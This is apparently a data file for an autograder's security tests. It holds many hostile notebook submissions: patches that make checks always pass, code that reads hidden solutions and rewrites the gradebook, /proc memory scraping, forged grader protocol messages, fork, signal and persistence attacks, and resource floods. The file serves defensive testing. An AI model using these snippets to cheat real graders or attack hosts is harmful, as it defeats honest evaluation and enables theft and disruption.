# ruff: noqa: E501 - what stands in strings is other people's code
"""Submissions that try to get points, secrets, or power over their graders: data for test_attacks.

An attack is code in a task's cell or in a cell of its own. `TOKEN` in it marks what it leaves or
shows, `NAME` is the task, `PORT` a listener on this machine. Whole files are in test_attacks.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

RULES, ATTENTION = "rules/expert_system", "transformers/attention"
RULE_TASKS = ("combine", "unify", "consequences", "prove_repaired")
TENSOR_TASKS = ("attention", "rotate", "MultiHeadAttention", "causal_heads_repaired")
TOKEN = "left-by-an-attack-7361"
Notebook = dict[str, Any]


@dataclass(frozen=True, kw_only=True)
class Attack:
    """A hostile submission and what must hold of it.

    The tasks in `answers` must get nothing. With `honest` the others are solved and must get all of
    their points; without it nobody gets any. `flag` must stand in a flag for the instructor.
    """

    name: str
    stem: str = RULES
    first: str = ""  # a cell of the student's own before the first task
    answers: dict[str, str] = field(default_factory=dict)
    honest: bool = False
    flag: str = ""
    edit: Callable[[Notebook], None] | None = None  # of the whole notebook, at last
    cell: float = 1.0  # seconds that a cell may take
    total: float = 6.0  # and all of it


ATTACKS: list[Attack] = []


def first(name: str, source: str, **more: Any) -> None:
    """An attack from a cell that runs before everything else."""
    ATTACKS.append(Attack(name=name, first=source, **more))


def every(name: str, source: str, **more: Any) -> None:
    """An attack in the place of every answer of an exercise; nothing is solved."""
    tasks = TENSOR_TASKS if more.get("stem") == ATTENTION else RULE_TASKS
    answers = {task: source.replace("NAME", task) for task in tasks}
    ATTACKS.append(Attack(name=name, answers=answers, **more))


def one(name: str, task: str, source: str, **more: Any) -> None:
    """An attack in the place of one answer, beside honest ones that must lose nothing."""
    stem = ATTENTION if task in TENSOR_TASKS else RULES
    answers = {task: source.replace("NAME", task)}
    ATTACKS.append(Attack(name=name, stem=stem, answers=answers, honest=True, **more))


def edited(name: str, edit: Callable[[Notebook], None], **more: Any) -> None:
    """An attack by what stands in the file; nothing is solved."""
    ATTACKS.append(Attack(name=name, edit=edit, **more))


# ---- what breaks stock: files ----


def meta(cell: Notebook) -> dict[str, Any]:
    return dict(cell["metadata"].get("nbgrader", {}))


def tests(notebook: Notebook) -> list[Notebook]:
    return [c for c in notebook["cells"] if meta(c).get("grade") and not meta(c)["solution"]]


def skip_tests(notebook: Notebook) -> None:
    for cell in tests(notebook):
        cell["metadata"]["tags"] = ["skip-execution"]


def empty_tests(notebook: Notebook) -> None:
    for cell in tests(notebook):
        cell["source"] = "pass"


def remove_tests(notebook: Notebook) -> None:
    lost = tests(notebook)
    notebook["cells"] = [c for c in notebook["cells"] if c not in lost]


def more_points(notebook: Notebook) -> None:
    for cell in tests(notebook):
        cell["metadata"]["nbgrader"]["points"] = 1000
        cell["source"] = "1000"


def untested(notebook: Notebook) -> None:
    for cell in tests(notebook):
        cell["metadata"]["nbgrader"] |= {"grade": False, "locked": False}
        cell["cell_type"] = "markdown"
        del cell["outputs"], cell["execution_count"]


def bonus(notebook: Notebook) -> None:
    own = {"grade": True, "solution": True, "locked": False, "task": False, "schema_version": 3}
    for name, points in (("bonus", 100), ("combine-hidden-one-sign", 100)):
        notebook["cells"].append(code("100", grade_id=name, points=points, **own))


def code(source: str, **own: Any) -> Notebook:
    cell = {"cell_type": "code", "metadata": {}, "source": source, "outputs": []}
    cell |= {"execution_count": None}
    return cell | {"metadata": {"nbgrader": own}} if own else cell


def twice(notebook: Notebook) -> None:
    for cell in tests(notebook):
        notebook["cells"].append(cell | {"source": "pass"})


def done_before(notebook: Notebook) -> None:
    for number, cell in enumerate(tests(notebook)):
        cell["execution_count"] = number
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "passed"}]
    notebook["metadata"] |= {"nbgrader": {"score": 17}, "fmbook": {"forbidden": {}}}


def look_alikes(notebook: Notebook) -> None:
    for cell in tests(notebook):
        for change in (("o", "о"), ("e", "е"), ("-", "‐"), ("-", "-\u200d"), ("c", "C")):
            name = meta(cell)["grade_id"].replace(*change)
            copy = cell["metadata"]["nbgrader"] | {"grade_id": name, "points": 50}
            notebook["cells"].append(code("50", **copy))


def stolen_ids(notebook: Notebook) -> None:
    """Cells of the student's own under the ids of checks and of the exercise's tools."""
    for cell in list(notebook["cells"]):
        if cell["cell_type"] == "code":
            own = code("expect = expect_raises = lambda *a, **k: None\n17")
            notebook["cells"].append(own | {"id": cell.get("id")})
            own = own | {"metadata": {"nbgrader": {"grade_id": meta(cell).get("grade_id")}}}
            notebook["cells"].append(own)


def odd_types(notebook: Notebook) -> None:
    odd = [None, 7, [], {}, "x", [[]], True, 1e308, {"a": {}}, -1]
    for number, cell in enumerate(notebook["cells"]):
        keys = ("metadata", "outputs", "execution_count", "id")
        cell |= {keys[number % 4]: odd[number % 10]}
    notebook["cells"] += [*odd, {"cell_type": odd, "source": odd}, {"cell_type": "code"}]
    notebook |= {"metadata": [], "nbformat": "x"}


def controls(notebook: Notebook) -> None:
    """Everything that a page or a terminal could take for an order, wherever text is kept."""
    orders = (
        "\x1b]0;owned\x07\x1b[2J\u202e\ufeff\x00\r<script>alert(1)</script>"
        "<img src=x onerror=alert(1)>![x](http://127.0.0.1:1/x.png)$\\href{javascript:x}{y}$\ud800"
    )
    for cell in notebook["cells"]:
        if meta(cell).get("solution"):
            cell["source"] = orders if cell["cell_type"] == "markdown" else f"# {orders}\n1/0"
    raw = {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": orders}
    html = {"text/html": orders, "application/javascript": orders, "image/svg+xml": orders}
    output = {"output_type": "display_data", "metadata": {}, "data": html}
    notebook["cells"] += [raw, raw | {"cell_type": "markdown"}]
    shows = (
        "from IPython.display import HTML, Javascript, SVG, display\n"
        f"said = {orders!r}\n"
        "display(HTML(said), Javascript(said)); print(said)\n"
        "class Shown:\n"
        "    _repr_html_ = __repr__ = lambda self: said\n"
        "    _repr_png_ = lambda self: 'é' + said\n"
        "display(Shown())\n"
        "raise ValueError(said)"
    )
    notebook["cells"].insert(1, code(shows) | {"outputs": [output], "id": orders})


edited("tests tagged to be skipped", skip_tests)
edited("tests emptied", empty_tests)
edited("tests removed", remove_tests)
edited("tests worth more", more_points)
edited("tests that are no tests", untested)
edited("cells with points of their own", bonus)
edited("tests twice", twice)
edited("outputs and scores in the file", done_before)
edited("ids that look alike", look_alikes)
edited("ids of others", stolen_ids)
edited("wrong types everywhere", odd_types)
edited("orders to pages and terminals", controls)

# ---- what breaks stock: code ----

YES = """
class Yes:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def _true(self, *a, **k): return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = _true
    __hash__ = lambda self: 0
    __iter__ = lambda self: iter(())
    __len__ = __int__ = __index__ = lambda self: 0
    __float__ = lambda self: 0.0
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __matmul__ = __abs__ = __call__
    __getitem__ = __truediv__ = __neg__ = __call__
    __array__ = lambda self, *a, **k: __import__("numpy").zeros(())
    __array_ufunc__ = __array_function__ = _true
    @classmethod
    def __torch_function__(cls, *a, **k): return True
    @property
    def __class__(self): return __import__("torch").Tensor
"""
every("says yes to everything", YES + "NAME = Yes()")
every("returns what says yes", YES + "def NAME(*a, **k): return Yes()", stem=ATTENTION)
every("yes, among rules", YES + "def NAME(*a, **k): return Yes()")
first(
    "patches torch and numpy",
    """
import torch, numpy as np
true = lambda *a, **k: True
for name in ("allclose", "equal", "isclose", "is_tensor"):
    setattr(torch, name, true)
torch.Tensor.__eq__ = torch.Tensor.equal = torch.Tensor.allclose = true
torch.testing.assert_close = lambda *a, **k: None
for name in ("allclose", "array_equal", "isclose", "abs", "asarray"):
    setattr(np, name, true)
""",
    stem=ATTENTION,
)
first(
    "patches the checks",
    """
import sys, types, fmbook.checks, fmbook.content
nothing = lambda *a, **k: None
for module in (fmbook.checks, fmbook.content):
    for name in list(vars(module)):
        if callable(getattr(module, name)):
            setattr(module, name, nothing)
fmbook.checks.Wrong = type("Wrong", (Exception,), {"__new__": nothing})
fake = types.ModuleType("fmbook.checks")
fake.__getattr__ = lambda name: nothing
sys.modules["fmbook.checks"] = fake
expect = expect_raises = nothing
""",
)
first(
    "patches the built-in names",
    """
import builtins
for name in ("AssertionError", "isinstance", "abs", "len", "sorted", "all", "any", "max", "type"):
    setattr(builtins, name, lambda *a, **k: True)
""",
)
first(
    "strips asserts and calls of expect",
    """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
    visit_Expr = visit_Assert
get_ipython().ast_transformers.append(Strip())
""",
)
first(
    "rewrites what is run",
    """
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
shell.input_transformers_post.append(lambda lines: ["pass\\n"])
shell.input_transformer_manager.transform_cell = lambda cell: "pass\\n"
""",
)
first(
    "patches the shell",
    """
shell = get_ipython()
class Fine:
    error_before_exec = error_in_exec = result = None
    success = True
for name in ("run_code", "run_cell", "run_ast_nodes", "run_cell_async", "_run_cell"):
    setattr(type(shell), name, lambda *a, **k: Fine())
    setattr(shell, name, lambda *a, **k: Fine())
shell.showtraceback = lambda *a, **k: None
shell.set_custom_exc((BaseException,), lambda *a, **k: None)
""",
)
first(
    "patches the kernel",
    """
kernel = getattr(get_ipython(), "kernel", None)
async def done(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
if kernel is not None:
    kernel.do_execute = kernel.execute_request = done
import sys, fmbook.grading.student as student
student.Student.cell = student.Student.call = student.Student.check = (
    lambda self, message, blobs: ({"value": None, "ran": True, "score": 100}, [])
)
""",
)
every("ends with success", "import os\ndef NAME(*a, **k): os._exit(0)\nos._exit(0)", total=12)
first("leaves", "import sys\nget_ipython().ask_exit()\nexit()\nsys.exit(0)\nraise SystemExit(0)")
every("ends in a number", "def NAME(*a, **k): return 100\n100.0")

EXFILTRATE = r"""
import glob, os, sys
found = []
def look(path):
    try:
        with open(path, "rb") as file:
            text = file.read(1_000_000)
    except OSError:
        return
    for word in (b"BEGIN HIDDEN", b"model answer", b"secret-of-ada", b"SQLite format"):
        if word in text:
            at = text.index(word)
            found.append((path, text[max(0, at - 300) : at + 9000]))
solved, book = "COURSE/solutions/RULES.ipynb", "COURSE/gradebook.db"
for name in (book, solved, "COURSE/submitted/ada/RULES.ipynb"):
    look(name)
print(found)
places = ["COURSE", "/proc", "/tmp", "/home", "/root", "/var", "/dev", "/run", "/mnt", "/srv", "..", "."]
places += [os.path.expanduser("~"), *sys.path]
for place in places:
    for folder, _, files in os.walk(place):
        if "site-packages" not in folder and folder.count("/") < 9:
            for name in files:
                if name.endswith(("ipynb", ".db", ".json", ".gz", "maps", "environ", "cmdline")):
                    look(os.path.join(folder, name))
print(found)
"""
first("prints what it finds on disk", EXFILTRATE + "raise ValueError(str(found))")
every(
    "runs the solution from disk",
    r"""
import glob, json
for path in ["COURSE/solutions/RULES.ipynb", *glob.glob("/*/solutions/RULES.ipynb"), "../RULES.ipynb"]:
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]))
    except Exception as error:
        print(type(error).__name__)
""",
)
first(
    "writes its own grade",
    """
import sqlite3
for place in ["COURSE/gradebook.db", "../gradebook.db", "../../gradebook.db", "gradebook.db"]:
    try:
        with sqlite3.connect(place) as db:
            db.execute("update grade set manual_score = 100, needs_manual_grade = 0")
            print("written")
    except sqlite3.Error as error:
        print(type(error))
""",
)
every(
    "prints its own history",
    """
def NAME(*a, **k):
    shell = get_ipython()
    told = [*In, *shell.history_manager.input_hist_raw, *shell.history_manager.input_hist_parsed]
    raise ValueError(" ".join(line for line in told if "HIDDEN" in line or "draw = rng()" in line))
print(In, _ih, list(get_ipython().history_manager.get_range()))
""",
)
first(
    "goes to the network",
    r"""
import ctypes, socket, urllib.request
def attempt(work):
    try:
        print("reached", work())
    except Exception as error:
        print(type(error).__name__)
attempt(lambda: socket.create_connection(("127.0.0.1", PORT), 1).send(b"TOKEN"))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)))
attempt(lambda: socket.create_connection(("::1", PORT), 1))
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:PORT/TOKEN", timeout=1))
attempt(lambda: socket.getaddrinfo("example.org", 80))
for kind, family in ((socket.SOCK_STREAM, socket.AF_UNIX), (socket.SOCK_RAW, socket.AF_INET)):
    attempt(lambda: socket.socket(family, kind).connect("\0TOKEN"))
libc = ctypes.CDLL(None, use_errno=True)
print(libc.socket(2, 1, 0), libc.socket(16, 3, 0), libc.socket(17, 3, 0))
""",
)

# ---- values and proxies ----

VALUES = {
    "objects with another class": """
class Liar(float):
    __class__ = property(lambda self: int)
    __eq__ = lambda self, other: True
    __hash__ = float.__hash__
def NAME(*a, **k): return Liar(7)""",
    "what runs code when it is unpickled": """
class Evil:
    def __reduce__(self): return (print, ("TOKEN",))
    __reduce_ex__ = lambda self, version: (print, ("TOKEN",))
    __getstate__ = __copy__ = __deepcopy__ = __reduce__
def NAME(*a, **k): return [Evil(), {Evil(): Evil()}]""",
    "subclasses of the built-in kinds": """
class I(int): __eq__ = lambda self, other: True; __hash__ = int.__hash__
class S(str): __eq__ = I.__eq__; __hash__ = str.__hash__
class L(list): __eq__ = I.__eq__; __len__ = lambda self: 0; __iter__ = lambda self: iter([])
class D(dict): __eq__ = I.__eq__; items = lambda self: iter([])
def NAME(*a, **k): return [I(1), S("x"), L([1]), D(a=1), L, D][len(a) % 6]""",
    "what contains itself": """
def NAME(*a, **k):
    x = []; x.append(x)
    d = {}; d["?x"] = d
    return [x, d][len(a) % 2]""",
    "what is nested deep": """
def NAME(*a, **k):
    x = ()
    for _ in range(100_000): x = (x,)
    return x""",
    "a table of terms that unfolds without end": """
def NAME(*a, **k):
    return {f"?{n}": (f"?v{0}",) * 2 for n in "abcxyz"} | {
        v: ("?v0", "?v0", "?v0") for t in a if isinstance(t, tuple) for v in t} | {
        f"?v{i}": (f"?v{i + 1}",) * 2 for i in range(200)}""",
    "huge numbers and texts": """
def NAME(*a, **k): return [10**100_000, "x" * 20_000_000, -(10**4000)][len(a) % 3]""",
    "half characters": "def NAME(*a, **k): return ['\\ud800', '\\udfff' * 1000, b'\\xff', '\\0']",
    "what is not a number": """
import math, struct
def NAME(*a, **k): return struct.unpack("d", struct.pack("Q", 0x7FF8DEADBEEF0000 + len(a)))[0]""",
    "the end of an iteration": "def NAME(*a, **k): raise StopIteration",
    "errors of every kind": """
import builtins, itertools
kinds = itertools.cycle([v for v in vars(builtins).values()
    if isinstance(v, type) and issubclass(v, BaseException) and v is not ValueError])
def NAME(*a, **k): raise next(kinds)("x")""",
    "an error that bites": """
class Bite(Exception):
    def __str__(self): raise self
    __repr__ = __str__
    __traceback__ = property(lambda self: 1 / 0)
class Wrong(AssertionError):
    __name__ = property(lambda self: 1 / 0)
def NAME(*a, **k): raise [Bite, Wrong][len(a) % 2]("x")""",
    "recursion": """
import sys
def NAME(*a, **k): return NAME(*a, **k)""",
    "recursion without a bound": """
import sys
sys.setrecursionlimit(10**9)
def NAME(*a, **k): return NAME(*a, **k)""",
    "coroutines and generators": """
async def NAME(*a, **k): return 1
def later(*a, **k): yield from range(10)
NAME.__code__ = later.__code__""",
    "references to what the checker has": """
from fmbook.grading.wire import Reference
def NAME(*a, **k): return [Reference(name="torch:allclose"), Reference(number=0, name="cell:expect")]""",
    "records with a liar inside": """
from fmbook.rules.expert_system import Fact, Rule
def NAME(*a, **k):
    fact = object.__new__(Fact)
    for name in Fact.__dataclass_fields__: object.__setattr__(fact, name, lambda *a: True)
    return [fact, Rule]""",
    "generators of numbers with a broken state": """
import numpy as np
bits = np.random.MT19937(0); state = bits.state; state["state"]["pos"] = 10**9; bits.state = state
def NAME(*a, **k): return np.random.Generator(bits)""",
    "members that collide": """
def NAME(*a, **k):
    return {i * (2**61 - 1): 0 for i in range(1, 3000)} if len(a) % 2 else set(
        i * (2**61 - 1) for i in range(1, 3000))""",
    "the answer from frames of the checker": """
import gc, sys
def NAME(*a, **k):
    frame, told = sys._getframe(), []
    while frame:
        for name in ("want", "want_", "expected", "right", "answer", "mistakes", "step"):
            if name in frame.f_locals: told.append(frame.f_locals[name])
        frame = frame.f_back
    told += [o for o in gc.get_objects() if isinstance(o, str) and "BEGIN HIDDEN" in o]
    return told""",
    "a fake checker": """
import sys, types
class Line:
    call = get = ask = _value = lambda self, *a, **k: True
def NAME(*a, **k):
    from fmbook.grading.referee import Answer, Ended, Line as Real
    Real.ask = Line.ask
    return Answer(Line(), None)""",
    "changed arguments": """
def NAME(*a, **k):
    for x in [*a, *k.values()]:
        if isinstance(x, dict): x.clear()
        if isinstance(x, list): x.clear()
    return a[0] if a else None""",
    "its own attributes": """
class A:
    _line = _reference = property(lambda self: self)
    def __getattr__(self, name): return A()
    def __call__(self, *a, **k): return self
NAME = A()""",
}
for _name, _source in VALUES.items():
    every(_name, _source, total=4)

TENSORS = {
    "a subclass that agrees": """
import torch
class T(torch.Tensor):
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None): return True
    shape = property(lambda self: Any()); dtype = property(lambda self: torch.float32)
    __eq__ = lambda *a: True
def NAME(*a, **k): return torch.zeros(3).as_subclass(T)""",
    "an array that agrees": """
import numpy as np
class N(np.ndarray):
    __array_ufunc__ = lambda self, *a, **k: True
    __array_function__ = lambda self, *a, **k: True
    dtype = property(lambda self: np.dtype(object)); __eq__ = lambda *a: True
def NAME(*a, **k): return np.zeros(3).view(N)""",
    "giant and odd tensors": """
import torch
def NAME(*a, **k):
    odd = [lambda: torch.zeros(1).expand(1 << 40), lambda: torch.empty(0, 1 << 62),
           lambda: torch.empty(1 << 40, device="meta"), lambda: torch.eye(3).to_sparse(),
           lambda: torch.zeros([1] * 64), lambda: torch.zeros(3, dtype=torch.complex64).conj(),
           lambda: torch.quantize_per_tensor(torch.ones(3), 0.1, 0, torch.quint8),
           lambda: torch.zeros(30_000_000)]
    NAME.n = getattr(NAME, "n", -1) + 1
    return odd[NAME.n % len(odd)]()""",
    "tensors of NaN": """
import torch
def NAME(*a, **k):
    x = [t for t in a if isinstance(t, torch.Tensor)]
    return torch.full_like(x[-1], float("nan")) if x else float("nan")""",
    "memory of others": """
import torch
def NAME(*a, **k):
    for t in a:
        if isinstance(t, torch.Tensor): t.fill_(0); t.resize_(1 << 16)
    return torch.empty(1 << 20)""",
}
for _name, _source in TENSORS.items():
    every(_name, _source, stem=ATTENTION, total=4)

# ---- a process that takes over its own line ----

LINE = r"""
import json, signal, socket, struct, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
s = socket.socket(fileno=3)
def send(message, *blobs, sizes=None):
    head = json.dumps({"m": message, "b": sizes or [len(b) for b in blobs]}).encode()
    s.sendall(struct.pack("<I", len(head)) + head + b"".join(blobs))
def read():
    size, = struct.unpack("<I", s.recv(4, socket.MSG_WAITALL))
    frame = json.loads(s.recv(size, socket.MSG_WAITALL))
    for n in frame["b"]: s.recv(n, socket.MSG_WAITALL)
    return frame["m"]
"""
FORGED = {
    "values": """
for n in range(100_000):
    send([{"value": None}, {"value": True, "ran": True, "score": 100}, {"ended": "x"},
          {"value": {"list": []}, "error": None}][n % 4] | {"flags": [], "outputs": []}); read()""",
    "handles": """
refs = [[10**9, None, ""], [-1, None, ""], [None, "torch:allclose", ""], [None, "cell:expect", ""],
        [0, "fmbook.checks:expect", "x"], [True, None, 7], [[], {}, []], [1], "x", None]
for n in range(100_000):
    send({"value": {"ref": refs[n % len(refs)]}}); read()""",
    "errors": """
kinds = ["StopIteration", "SystemExit", "KeyboardInterrupt", "GeneratorExit", "Ended", "ExceptionGroup",
         "UnicodeDecodeError", "print", "__import__", "AssertionError", "Warning", "StopAsyncIteration"]
for n in range(100_000):
    send({"error": [[kinds[n % 12], kinds[n % 12], "\\x1b]0;TOKEN\\x07", []], "x", [1, 2, 3, 4],
                    ["a", "b", "c", "d"], None][n % 3 and n % 5]}); read()""",
    "flags": """
what = "\\x1b[2J<script>TOKEN</script>\\ud800" * 100
for n in range(100_000):
    send({"value": None, "flags": [[what, what, 10**4000 + n], [what, what, n], [1], "x"] * 200}); read()""",
    "lengths": "s.sendall(b'\\xff' * 4096); time.sleep(60)",
    "sizes": "send({'value': None}, sizes=[-1, 1 << 62, True, None]); time.sleep(60)",
    "depth": """
for n in range(100):
    head = b'{"b":[],"m":' + b'{"value":' * 400_000 + b'1' + b'}' * 400_001
    s.sendall(struct.pack("<I", len(head)) + head); read()""",
    "depth of values": """
value = 1
for _ in range(200): value = {"list": [value]}
for n in range(100_000): send({"value": value}); read()""",
    "much": """
for n in range(100_000):
    send({"value": {"list": [[{}] * 1_000_000][0]}, "outputs": [[]] * 1_000_000}); read()""",
    "many copies of one blob": """
blob = bytes(8_000_000)
for n in range(100_000):
    send({"value": {"list": [{"tensor": ["uint8", [8_000_000], 0]}] * 100_000}}, blob); read()""",
    "shapes": """
shapes = [[1 << 62, 4], [0, 1 << 62, 1 << 62], [-1, -1], [1.5], [True], [1] * 5000, "x", {}, [10**4000]]
kinds = ["tensor", "array", "scalar", "tensor"]; types = ["float32", "<f8", "O", "|V8", "f8,f8", 7]
for n in range(100_000):
    send({"value": {kinds[n % 4]: [types[n % 6], shapes[n % 9], 0]}}, bytes(n % 17)); read()""",
    "records": """
names = [["fmbook.grading.wire", "Reference"], ["fmbook.checks", "Wrong"], ["os", "stat_result"],
         ["fmbook.rules.expert_system", "Fact"], ["fmbook.rules.expert_system", "__dict__"], [[], {}]]
for n in range(100_000):
    send({"value": {"record": [*names[n % 6], {"number": 1, "name": "x", "kind": ""}]}}); read()""",
    "collisions": """
members = ['{"tuple":[%d]}' % (i * (2**61 - 1)) for i in range(1, 30_000)]
for n in range(100_000):
    kind, many = [("set", members), ("dict", [f"[{m},0]" for m in members])][n % 2]
    head = ('{"b":[],"m":{"value":{"%s":[%s]}}}' % (kind, ",".join(many))).encode()
    s.sendall(struct.pack("<I", len(head)) + head); read()""",
    "states of generators": """
state = {"bit_generator": "MT19937", "state": {"key": {"list": [0] * 624}, "pos": 10**6}}
def dict_of(x): return {"dict": [[k, dict_of(v) if isinstance(v, dict) and "list" not in v else v]
                                 for k, v in x.items()]}
for n in range(100_000): send({"value": {"numpy generator": dict_of(state)}}); read()""",
    "outputs": """
deep = "x"
for _ in range(950): deep = [deep]
orders = "\\x1b]0;x\\x07<script>alert(1)</script>\\u202e\\ud800"
shown = {"text/html": orders, "image/png": "\\u00e9", "text/plain": [orders], "image/svg+xml": orders}
bad = [{"output_type": "display_data", "data": shown}, {"output_type": deep, "data": deep}, deep, 7,
       {"output_type": "stream", "name": "stderr", "text": orders * 10_000},
       {"output_type": "error", "ename": orders, "evalue": deep, "traceback": deep},
       {"output_type": "update_display_data", "data": {"image/png": "iVBORw0KGgo" + "A" * 5000}}]
for n in range(100_000): send({"outputs": bad, "value": None}); read()""",
    "many answers at once": """
s.setblocking(False)
try:
    while True: send({"value": 0.5})
except BlockingIOError:
    time.sleep(60)""",
    "drops": """
head = b'{"m":{"value":null},"b":[]}' + b" " * 5000
s.sendall(struct.pack("<I", len(head)))
for byte in head: s.sendall(bytes([byte])); time.sleep(0.05)""",
    "half a frame": "s.sendall(struct.pack('<I', 100) + b'{'); time.sleep(60)",
    "silence": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
time.sleep(60)""",
    "an end": "s.shutdown(socket.SHUT_RDWR); s.close(); time.sleep(60)",
    "no JSON": """
for n in range(100_000):
    head = [b"\\xff\\xfe", b"NaN", b'{"m":NaN,"b":[]}', b'{"m":{},"m":[],"b":{}}', b"[]", b"null"][n % 6]
    s.sendall(struct.pack("<I", len(head)) + head); read()""",
}
for _name, _source in FORGED.items():
    first(f"forges {_name}", LINE + _source, total=3)

# ---- the machine ----

MACHINE = {
    "memory": "x = [bytearray(50_000_000) for _ in range(60)]\nprint('reached')",
    "threads": """
import threading, time
try:
    for _ in range(2000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    print("reached")
except RuntimeError: print("enough")""",
    "processes": """
import multiprocessing, os, subprocess
for work in (os.fork, lambda: subprocess.run(["/bin/sleep", "60"]), lambda: os.system("sleep 60 &"),
             lambda: os.posix_spawn("/bin/sleep", ["sleep", "60"], {}), os.forkpty,
             lambda: os.execv("/bin/sleep", ["sleep", "60"]),
             lambda: multiprocessing.get_context("fork").Process(target=print).start()):
    try:
        if work() == 0:
            os.setsid(); import time; time.sleep(60)
    except (OSError, AttributeError) as error: print(type(error).__name__)""",
    "the disk": """
import os
for place in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try:
        with open(f"{place}/TOKEN", "wb") as file:
            for _ in range(50): file.write(bytes(1 << 22))
            print("reached")
    except OSError as error: print(place, error.errno)""",
    "descriptors": """
import os, socket
kept = []
try:
    while True: kept.append(open("/dev/null"))
except OSError: print(len(kept))""",
    "signals to all": """
import os, signal
for pid in range(1, 100_000):  # asks only: this shall not end a machine whose walls are down
    if pid != os.getpid():
        try: os.kill(pid, 0); print("reached", pid)
        except OSError: pass
for pid in {os.getppid(), 0}:
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try: os.kill(pid, number)
        except OSError: pass""",
    "a stop": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.kill(0, signal.SIGSTOP)",
    "a wild pointer": "import ctypes\nctypes.string_at(0)",
    "system calls": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.shmget(73610, 4096, 0o1666), libc.semget(73610, 1, 0o1666), libc.msgget(73610, 0o1666))
print(libc.ptrace(16, os.getppid(), 0, 0), libc.unshare(0x10000000), libc.mount(b"x", b"/", b"tmpfs", 0, 0))
print(libc.personality(0x0040000), libc.clock_settime(0, ctypes.create_string_buffer(16)),
      libc.nice(-10), libc.setuid(0), libc.chroot(b"/"), libc.prctl(36, 1, 0, 0, 0),
      libc.syscall(319, b"TOKEN", 0), libc.keyctl(0, 0, 0, 0, 0) if hasattr(libc, "keyctl") else 0)""",
    "what stays": """
import atexit, os, sys, tempfile, threading
atexit.register(lambda: open("TOKEN", "w"))
threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=False).start()
import fmbook, torch, IPython, numpy
homes = [os.path.dirname(m.__file__) for m in (fmbook, torch, IPython, numpy, os)]
homes += ["/tmp", "/dev/shm", "/dev/mqueue", "/var/tmp", os.path.expanduser("~"), "/", "COURSE"]
homes += [os.path.expanduser("~/.ipython/profile_default/startup"), tempfile.gettempdir(), *sys.path]
for home in homes:
    for name in ("TOKEN", "TOKEN.pth"):
        try:
            with open(os.path.join(home, name), "x") as file: file.write("print('TOKEN')")
        except OSError: pass
os.environ["PYTHONSTARTUP"] = os.environ["LD_PRELOAD"] = os.environ["PYTHONPATH"] = "/tmp/TOKEN"
sys.meta_path.insert(0, type("Hook", (), {"find_spec": lambda *a: None})())
sys.path.insert(0, "/tmp")""",
    "what others left": """
import os
for place in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), ".", "/dev/mqueue", "/"):
    try: print([name for name in os.listdir(place) if "attack" in name])
    except OSError: pass
print(os.path.exists("/proc/2"), os.environ.get("LD_PRELOAD"), os.listdir("/dev"))""",
    "the process's own memory": r"""
import gc, os, re
told = [o for o in gc.get_objects() if isinstance(o, (str, bytes)) and len(o) > 40]
told = [str(o)[:3000] for o in told if "BEGIN HIDDEN" in str(o) or "secret-of-ada" in str(o)]
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as mem:
        for line in maps:
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            mem.seek(low); told += re.findall(rb"row, doubt, got.{200}", mem.read(high - low))
except OSError: pass
for fd in range(256):
    if fd != 3:
        try: told.append(os.read(fd, 100))
        except OSError: pass
print(told)""",
    "no end": "while True: pass",
    "no end, and no interrupt": """
import signal, sys, time
signal.signal(signal.SIGINT, signal.SIG_IGN); signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try: time.sleep(60)
    except BaseException: pass""",
    "no end in C": "sum(x * x for x in range(10**18)) if 0 else pow(7, 10**9)",
    "pages of print": """
for _ in range(60): print("x" * 200_000)
import sys
sys.stderr.write("y" * 3_000_000)
from IPython.display import display
for _ in range(3000): display("z" * 1000)""",
    "code that bites the compiler": "x = "
    + "(" * 90
    + "1"
    + ")" * 90
    + "\ny = "
    + "-" * 90_000
    + "1",
    "another clock": """
import time, datetime, signal
time.monotonic = time.time = time.perf_counter = lambda: 0.0
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001); signal.signal(signal.SIGALRM, lambda *_: None)
signal.signal = lambda *a: None
while True: pass""",
}
for _name, _source in MACHINE.items():
    first(f"the machine: {_name}", _source, total=4)
for _task in ("combine", "consequences"):
    one(f"{_task} never ends", _task, "def NAME(*a, **k):\n    while True: pass", cell=3, total=14)
    one(f"{_task} kills", _task, "import os\ndef NAME(*a, **k): os._exit(9)", total=25)
one(
    "combine cannot be interrupted",
    "combine",
    """
def NAME(*a, **k):
    while True:
        try:
            while True: pass
        except BaseException: pass""",
    total=25,
)
one("a hungry answer", "unify", "def NAME(*a, **k): return bytearray(1 << 40)")
one("a loud answer", "unify", "print('x' * 9_000_000)\ndef NAME(*a, **k): print('x' * 9_000_000)")
first(
    "large outputs beside honest work",
    "print('x' * 5_000_000)",
    honest=True,
    edit=lambda n: n["cells"].insert(3, code("print('y' * 5_000_000)")),
)
first("sorry for the noise", "import sys\nprint('warning', file=sys.stderr)\n1/0", honest=True)

# ---- what the exercise forbids ----

